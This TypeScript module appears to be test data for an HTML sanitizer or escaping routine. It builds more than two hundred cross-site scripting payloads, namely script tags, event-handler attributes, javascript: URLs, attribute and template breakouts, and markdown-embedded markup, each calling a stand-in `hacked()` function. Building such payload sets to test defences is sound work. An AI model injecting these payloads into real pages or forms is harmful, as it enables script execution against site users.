/**
 * Texts that run a script wherever a page treats them as markup, an attribute, an address, a style or
 * part of a script. Each calls `hacked()`.
 */
const RUN = 'hacked()';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
];

/** Beginnings that close the markup around the text, for example a quoted attribute. */
const BREAKS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '&lt;/p&gt;'];

const LOOSE = [
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `**<b onclick=${RUN}>bold</b>**`,
  `## <img src=x onerror=${RUN}>`,
  `- <svg onload=${RUN}>`,
  `";${RUN};//`,
  `';${RUN};//`,
];

/** All hostile texts, more than two hundred. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...BREAKS.flatMap((close) => ELEMENTS.map((element) => close + element)),
  ...LOOSE,
];
